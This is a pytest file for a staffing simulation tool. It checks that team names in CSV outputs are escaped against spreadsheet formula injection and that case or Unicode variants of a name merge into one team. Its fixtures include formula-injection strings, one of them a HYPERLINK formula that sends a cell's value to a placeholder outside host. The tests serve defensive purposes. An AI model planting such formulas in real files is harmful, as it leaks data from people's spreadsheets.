"""Team names as users type them (issue 17, points 7 and 8): CSV outputs safe to open in
Excel (no cell read as a formula), and names that differ only in case or Unicode form taken
as one team, with a note."""

from __future__ import annotations

import csv
import json
import unicodedata

import numpy as np
import pandas as pd
import pytest

from llo_sim.cli import main
from llo_sim.own import check, load_organisation
from llo_sim.own.check import SUPPRESSED

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"klik")', "+31 Zorg", "-Nacht",
            "@SUM(A1:A9)"]


def csv_cells(folder):
    """Every cell of every CSV file under ``folder``, as a spreadsheet would get it."""
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    yield path.name, cell


def is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_names_starting_with_formula_characters_are_text_in_every_csv(tmp_path):
    teams = FORMULAS + ["Gewoon"]
    wf = pd.DataFrame({"id": [f"=ID{i}" if i % 7 == 0 else f"P{i}" for i in range(60)],
                       "team": [teams[i % len(teams)] for i in range(60)],
                       "education": "hbo", "age": 40, "contract": "permanent"})
    wf.to_csv(tmp_path / "wf.csv", index=False)
    for name, month in (("scan0.csv", 0), ("scan1.csv", 12)):
        pd.DataFrame({"team": teams, "month": month, "richting": 3.0}).to_csv(
            tmp_path / name, index=False)
    out = tmp_path / "run"
    assert main(["run", "baseline", "--workforce", str(tmp_path / "wf.csv"), "--scan",
                 str(tmp_path / "scan0.csv"), "--months", "12", "--replications", "2",
                 "--per-employee", "--out", str(out), "--quiet"]) == 0
    assert main(["check", str(out), "--scan", str(tmp_path / "scan1.csv"), "--quiet"]) == 0
    seen = set()
    for name, cell in csv_cells(out):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert is_number(cell), (name, cell)          # -0.5 is a number, not a formula
        seen.add((name, cell))
    for team in FORMULAS:
        for name in ("predictions.csv", "start.csv", "employees.csv", "check.csv"):
            assert (name, "'" + team) in seen, (name, team)
    assert ("employees.csv", "'=ID0") in seen
    # the check still finds every team's predictions under its own name
    table = check(out, tmp_path / "scan1.csv")
    assert (table["verdict"] != SUPPRESSED).all()
    assert set(table["team"]) == set(teams) | {"all"}
    assert json.loads((out / "run.json").read_text())["organisation"]["team_names"] == sorted(teams)


def test_a_comparison_writes_a_scenario_named_like_a_formula_as_text(tmp_path):
    import llo_sim

    scenario = tmp_path / "=evil.toml"
    scenario.write_text('extends = "baseline"\n')
    result = llo_sim.compare([str(scenario), "baseline"], replications=1, months=2,
                             n_employees=50, workers=1)
    result.write(tmp_path / "cmp", figure=False)
    cells = {cell for _, cell in csv_cells(tmp_path / "cmp")}
    assert "'=evil" in cells and "=evil" not in cells


def test_excel_safe_escapes_tabs_and_returns_other_tables_unchanged():
    from llo_sim.storage.csv_text import excel_safe

    frame = pd.DataFrame({"team": ["\tX", "\rY", "a-b", "Zorg"], "v": [-1.5, 2, 3, 4]})
    safe = excel_safe(frame)
    assert list(safe["team"]) == ["'\tX", "'\rY", "a-b", "Zorg"]
    assert list(safe["v"]) == [-1.5, 2, 3, 4]
    plain = pd.DataFrame({"team": ["Zorg", "Keuken"], "n": [5, 6]})
    assert excel_safe(plain) is plain                   # byte for byte as before


def write_workforce(path, names, per_team=5):
    rows = [{"id": f"P{i}-{j}", "team": name, "education": "hbo", "age": 40,
             "contract": "permanent"} for i, name in enumerate(names) for j in range(per_team)]
    pd.DataFrame(rows).to_csv(path, index=False)


def test_spellings_that_differ_in_case_or_unicode_form_are_one_team(tmp_path, capsys):
    nfc = unicodedata.normalize("NFC", "Zorg é")
    nfd = unicodedata.normalize("NFD", "Zorg é")
    assert nfc != nfd
    names = ["Team A", "team a", "TEAM A", nfc, nfd, "Keuken\u00a0B", "Keuken B", "Staf"]
    write_workforce(tmp_path / "wf.csv", names, per_team=3)
    org = load_organisation(tmp_path / "wf.csv")
    assert list(org.people.team_names) == sorted(["Team A", nfc, "Keuken\u00a0B", "Staf"])
    sizes = dict(zip(org.people.team_names, np.bincount(org.people.team)))
    assert sizes == {"Team A": 9, nfc: 6, "Keuken\u00a0B": 6, "Staf": 3}
    assert len(org.notes) == 3
    assert "'Team A', 'team a' and 'TEAM A'" in org.notes[0]
    assert "taken as one team, 'Team A' (the first spelling)" in org.notes[0]
    # on the command line: a note on standard error, and run.json has the first spellings
    out = tmp_path / "run"
    assert main(["run", "baseline", "--workforce", str(tmp_path / "wf.csv"), "--months", "1",
                 "--out", str(out), "--quiet"]) == 0
    err = capsys.readouterr().err
    assert err.count("llo-sim: note:") == 3 and "differ only in case or Unicode form" in err
    meta = json.loads((out / "run.json").read_text())["organisation"]
    assert meta["teams"] == 4 and "team a" not in meta["team_names"]


def test_teams_and_scan_files_match_the_workforce_whatever_the_spelling(tmp_path, capsys):
    write_workforce(tmp_path / "wf.csv", ["Verpleging A", "Keuken"], per_team=6)
    (tmp_path / "teams.csv").write_text("team,leader_style\nVERPLEGING A,supportive\n"
                                        "keuken,directive\n", encoding="utf-8")
    (tmp_path / "scan.csv").write_text("team,richting\nverpleging a,3\nKeuken,4\n",
                                       encoding="utf-8")
    org = load_organisation(tmp_path / "wf.csv", tmp_path / "teams.csv", tmp_path / "scan.csv")
    assert list(org.leaders.style) == [1, 0]            # Keuken directive, Verpleging supportive
    assert list(org.people.team_names[org.scan.teams]) == ["Verpleging A", "Keuken"]
    assert any("'verpleging a' taken as 'Verpleging A'" in n for n in org.notes)
    # two rows for one team in other spellings are refused, naming both rows
    (tmp_path / "dup.csv").write_text("team,richting\nKeuken,3\nKEUKEN,4\n", encoding="utf-8")
    assert main(["run", "baseline", "--workforce", str(tmp_path / "wf.csv"), "--scan",
                 str(tmp_path / "dup.csv"), "--months", "1", "--out", str(tmp_path / "o"),
                 "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "row 3" in err and "'KEUKEN'" in err and "also on row 2" in err
    assert err.count("\n") == 1


def test_names_a_spreadsheet_would_show_alike_are_refused(tmp_path, capsys):
    write_workforce(tmp_path / "wf.csv", ["=A", "'=A", "B"], per_team=4)
    assert main(["run", "baseline", "--workforce", str(tmp_path / "wf.csv"), "--months", "1",
                 "--out", str(tmp_path / "o"), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "column 'team'" in err and "does not show as another team's" in err


def test_numbering_is_unchanged_for_names_without_the_issue(tmp_path):
    """Teams are numbered as before (sorted names, capitals first), so a model from a file
    without merged spellings draws the same numbers."""
    names = ["Zorg", "apotheek", "Keuken", "bureau", "Ämter"]
    write_workforce(tmp_path / "wf.csv", names, per_team=2)
    org = load_organisation(tmp_path / "wf.csv")
    codes, uniques = pd.factorize(pd.read_csv(tmp_path / "wf.csv")["team"], sort=True)
    assert list(org.people.team_names) == list(uniques)
    assert list(org.people.team) == list(codes)
    assert org.notes == []


def test_the_dashboard_notes_merged_spellings_under_its_results(tmp_path):
    from llo_sim.dashboard.own_upload import run_uploads
    from llo_sim.engine.scenario import load

    write_workforce(tmp_path / "wf.csv", ["Zorg", "zorg", "Keuken"], per_team=5)
    uploads = {"workforce": ("mijn_personeel.csv", (tmp_path / "wf.csv").read_bytes())}
    own = run_uploads(uploads, "baseline", load("baseline").parameters, 1, 1)
    assert len(own.notes) == 1
    assert own.notes[0].startswith("mijn_personeel.csv: team names 'Zorg' and 'zorg'")
    assert "15 employees in 2 teams" in own.summary


@pytest.mark.parametrize("name", ["ALL", "Alle", "ＡＬＬ", "Organisatie"])
def test_the_names_of_the_whole_organisation_are_refused_in_any_spelling(tmp_path, capsys,
                                                                        name):
    write_workforce(tmp_path / "wf.csv", [name, "B", "C"], per_team=4)
    assert main(["run", "baseline", "--workforce", str(tmp_path / "wf.csv"), "--months", "1",
                 "--out", str(tmp_path / "o"), "--quiet"]) == 2
    assert "whole organisation" in capsys.readouterr().err
